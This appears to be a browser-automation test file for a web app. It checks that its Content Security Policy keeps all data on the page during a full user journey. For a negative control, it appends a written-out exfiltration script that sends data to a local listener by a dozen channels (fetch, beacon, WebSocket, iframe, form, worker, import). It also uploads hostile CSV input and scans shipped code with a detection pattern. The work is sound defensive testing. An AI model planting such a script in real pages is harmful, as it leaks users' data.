/**
 * A23, NET-1…7: nothing leaves the page. A listener on another port counts whatever reaches it; the same attempts, planted
 * in a copy of the page, must reach it once the policy is taken away, else the silence would prove nothing.
 */
import assert from "node:assert/strict";
import { cpSync, readFileSync, readdirSync, rmSync, writeFileSync } from "node:fs";
import path from "node:path";
import { after, before, test } from "node:test";
import { HEADERS } from "../../scripts/build/policy.mjs";
import { filesUnder } from "../../scripts/build/paths.mjs";
import { serve } from "../../scripts/serve.mjs";
import { nothingWrong, openPage } from "./support/browser.js";
import { attacks, hostilePosts } from "./support/hostile.js";
import { Product } from "./support/product.js";
import { CAFE, DIST, SINGLE, TEA, buildFolder, serveShipped } from "./support/shipped.js";
import { openSink } from "./support/sink.js";
import { browser, site, stage } from "./support/stage.js";

/** @import { Opened } from "./support/browser.js" */

/** @type {Awaited<ReturnType<typeof openSink>>} */
let sink;

stage();
before(async () => {
  sink = await openSink();
});
after(() => sink?.close());

/**
 * Everything that a person does: sample, files, settings, dossiers, exports, the other language, erasing all.
 * @param {Opened} opened
 * @param {import("../../www/shared/translate.js").Lang} lang
 */
async function wholeJourney({ page }, lang) {
  const product = new Product(page, lang);
  await product.demo();
  await product.openRow(0);
  await product.download("export-csv");
  await product.download("export-json");
  await page.keyboard.press("Escape");
  await product.field("objective-label").selectOption("awareness");
  await product.field("words-label").fill("café, tea");
  await product.idle();
  await product.go("ground");
  const interactions = "ada ben 1767600000 RT\ncleo ben 1767603600 RT\ndan ada 1767690000 MT\n";
  const tweet = JSON.stringify({ data: [{ id: "1", text: "hello", author_id: "7", created_at: "2026-01-05T10:00:00Z" }], includes: { users: [{ id: "7", username: "ada" }] } });
  await product.choose([CAFE, TEA]);
  await product.idle();
  await product.choose([
    { name: "log.txt", mimeType: "text/plain", buffer: Buffer.from(interactions) },
    { name: "edges.csv", mimeType: "text/csv", buffer: Buffer.from("Source,Target,Weight\nada,ben,2\nben,cleo,1\n") },
    { name: "tweets.jsonl", mimeType: "application/json", buffer: Buffer.from(`${tweet}\n`) },
    { name: "hostile.csv", mimeType: "text/csv", buffer: Buffer.from(hostilePosts(attacks(sink.url))) },
  ]);
  await product.idle();
  assert.equal(await product.cards("failed").count(), 0, (await page.locator("sil-file-card .problem").allInnerTexts()).join(" "));
  await product.analyse();
  for (const row of [0, 1, 2]) {
    await product.openRow(row);
    await page.keyboard.press("Escape");
  }
  await product.download("export-csv");
  await product.speak(lang === "fr" ? "en" : "fr");
  await product.go("ground");
  await Promise.all([page.waitForEvent("download"), product.button("download-receipt").first().click()]);
  await product.button("erase").click();
  await page.getByRole("dialog").getByRole("button", { name: product.t("erase-confirm"), exact: true }).click();
  await product.idle();
}

for (const [name, url, lang] of /** @type {[string, () => string, "fr" | "en"][]} */ ([
  ["http", () => site.url, "fr"], ["file://", () => SINGLE, "en"],
])) {
  test(`NET-2, NET-3, NET-6, NET-7 over ${name}, ${lang}: after the page has loaded, a whole journey asks for nothing`, async () => {
    const opened = await openPage(browser, `${url()}#lang=${lang}`);
    await opened.page.waitForLoadState("networkidle");
    await new Product(opened.page, lang).idle();
    opened.diary.requests.length = 0;
    await wholeJourney(opened, lang);
    assert.deepEqual(opened.diary.requests, []);
    assert.deepEqual(sink.hits, []);
    await nothingWrong(opened);
    assert.deepEqual(await opened.context.cookies(), []);
    await opened.context.close();
  });
}

test("NET-1 once loaded, the whole journey works without any connection", async () => {
  const host = await serveShipped();
  const opened = await openPage(browser, `${host.url}#lang=fr`);
  await opened.page.waitForLoadState("networkidle");
  await new Product(opened.page, "fr").idle();
  await opened.context.setOffline(true);
  await host.close();
  await wholeJourney(opened, "fr");
  await nothingWrong(opened);
  await opened.context.close();
});

/** What a malicious change of the page would try, as a script of the page's own. @param {string} tag */
function planted(tag) {
  const { url, socketUrl } = sink;
  return `
;(async () => {
  const attempt = (work) => { try { return Promise.resolve(work()).catch(() => {}); } catch {} };
  attempt(() => fetch("${url}/${tag}/fetch", { method: "POST", mode: "no-cors", body: "data" }));
  attempt(() => navigator.sendBeacon("${url}/${tag}/beacon", "data"));
  attempt(() => { const socket = new WebSocket("${socketUrl}/${tag}/socket"); socket.onopen = () => socket.send("data"); });
  attempt(() => { new Image().src = "${url}/${tag}/image"; });
  attempt(() => { const request = new XMLHttpRequest(); request.open("GET", "${url}/${tag}/xhr"); request.send(); });
  attempt(() => { new EventSource("${url}/${tag}/events"); });
  attempt(() => { const link = document.createElement("link"); link.rel = "stylesheet"; link.href = "${url}/${tag}/style"; document.head.append(link); });
  attempt(() => { const frame = document.createElement("iframe"); frame.src = "${url}/${tag}/frame"; document.body.append(frame); });
  attempt(() => new FontFace("x", "url(${url}/${tag}/font)").load());
  attempt(() => { const form = document.createElement("form"); form.action = "${url}/${tag}/form"; form.method = "post"; form.target = "_blank"; document.body.append(form); form.submit(); });
  attempt(() => new Worker("${url}/${tag}/worker"));
  attempt(() => import("${url}/${tag}/import"));
  setTimeout(() => { globalThis.__attempted = true; }, 800);
})();`;
}

/** The attempts that any Chromium carries out where nothing forbids them. */
const CERTAIN = ["fetch", "beacon", "socket", "image", "xhr", "events", "style", "frame", "font", "import"];

/**
 * A copy of the hosted page with the attempts in its script.
 * @param {string} tag
 * @param {boolean} policy kept, in the document and in the headers
 */
async function servePlanted(tag, policy) {
  const folder = buildFolder("tests", `planted-${tag}`);
  rmSync(folder, { recursive: true });
  cpSync(DIST, folder, { recursive: true });
  const document = path.join(folder, "index.html");
  const html = readFileSync(document, "utf8");
  const entry = /<script[^>]*\bsrc="\.\/(assets\/[^"]+\.js)"/.exec(html)?.[1];
  assert.ok(entry, "the page has a script");
  const script = path.join(folder, entry);
  writeFileSync(script, readFileSync(script, "utf8") + planted(tag));
  if (policy) return serve(folder);
  const bare = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
  assert.notEqual(bare, html, "the page carries its policy");
  writeFileSync(document, bare);
  const { "Content-Security-Policy": _, ...headers } = HEADERS;
  return serve(folder, { headers });
}

/** @param {string} tag */
const hits = (tag) => [...new Set(sink.hits.filter((hit) => hit.includes(`/${tag}/`)).map((hit) => hit.split("/").at(-1) ?? ""))].sort();

test("NET-4 negative control: without the policy the planted attempts arrive, with it none does", async () => {
  for (const [tag, policy] of /** @type {const} */ ([["open", false], ["kept", true]])) {
    const copy = await servePlanted(tag, policy);
    const opened = await openPage(browser, `${copy.url}#lang=en`);
    const product = new Product(opened.page, "en");
    await product.demo();
    await opened.page.waitForFunction(() => /** @type {any} */ (globalThis).__attempted === true);
    await opened.page.waitForTimeout(500);
    // The worker has a scope of its own; it inherits the policy of the page that made it.
    const worker = opened.page.workers()[0];
    assert.ok(worker, "the engine runs in a worker");
    await worker.evaluate((to) => fetch(to, { method: "POST", mode: "no-cors", body: "data" }).then(() => true, () => false), `${sink.url}/${tag}/from-worker`);
    if (policy) {
      assert.deepEqual(hits(tag), []);
      const violations = await opened.page.evaluate(() => /** @type {string[]} */ (/** @type {any} */ (globalThis).__violations));
      assert.ok(violations.some((each) => each.startsWith("connect-src")), violations.join("\n"));
    } else {
      const arrived = hits(tag);
      for (const name of [...CERTAIN, "from-worker"]) assert.ok(arrived.includes(name), `${name} did not arrive: the control proves nothing (${arrived})`);
    }
    await opened.context.close();
    await copy.close();
  }
});

test("NET-4 negative control of the single file: planted code runs only where the policy lets it", async () => {
  const folder = buildFolder("tests", "planted-single");
  const html = readFileSync(path.join(DIST, "sillage.html"), "utf8");
  // The last one: the script holds the text of the report, which is a document too.
  const withPlant = (/** @type {string} */ text, /** @type {string} */ tag) => text.replace(/<\/body>(?![\s\S]*<\/body>)/, () => `<script>${planted(tag)}</script></body>`);
  const bare = html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, "");
  assert.notEqual(bare, html, "the file carries its policy");
  for (const [tag, text, reaches] of /** @type {[string, string, boolean][]} */ ([["single-open", bare, true], ["single-kept", html, false]])) {
    const file = path.join(folder, `${tag}.html`);
    writeFileSync(file, withPlant(text, tag));
    const opened = await openPage(browser, `file://${file}#lang=en`);
    await new Product(opened.page, "en").demo();
    await opened.page.waitForTimeout(1_500);
    // Script that the policy does not know by its hash does not run at all; what runs in spite of that is stopped too.
    const asked = await opened.page.evaluate((to) => fetch(to, { mode: "no-cors" }).then(() => true, () => false), `${sink.url}/${tag}/evaluated`);
    assert.equal(asked, reaches);
    if (reaches) assert.ok(hits(tag).includes("fetch") && hits(tag).includes("evaluated"), hits(tag).join(" "));
    else assert.deepEqual(hits(tag), []);
    await opened.context.close();
  }
});

test("NET-5 no shipped script opens a window, a peer connection or a page elsewhere", () => {
  // What sends by itself is looked for in tests/unit/shipped.test.js; these are the ways round it. No directive of
  // today's policies governs peer connections, so that they must not be in the code at all.
  const scripts = filesUnder(DIST).filter((file) => /\.(js|html)$/.test(file) && !/(?:node|cli|shared-[\w-]+)\.js$/.test(file));
  assert.ok(scripts.some((file) => file.endsWith("sillage.html")) && readdirSync(path.join(DIST, "assets")).length > 0);
  for (const file of scripts) {
    const text = readFileSync(file, "utf8").replace(/<script type="application\/octet-stream"[^>]*>[^<]*<\/script>/g, "");
    const found = /\bwindow\.open\s*\(|\bRTCPeerConnection\b|\bWebTransport\b|\bnavigator\.(?:sendBeacon|serviceWorker)\b|\bdocument\.write\b|\beval\s*\(/.exec(text);
    assert.equal(found?.[0], undefined, path.relative(DIST, file));
  }
});
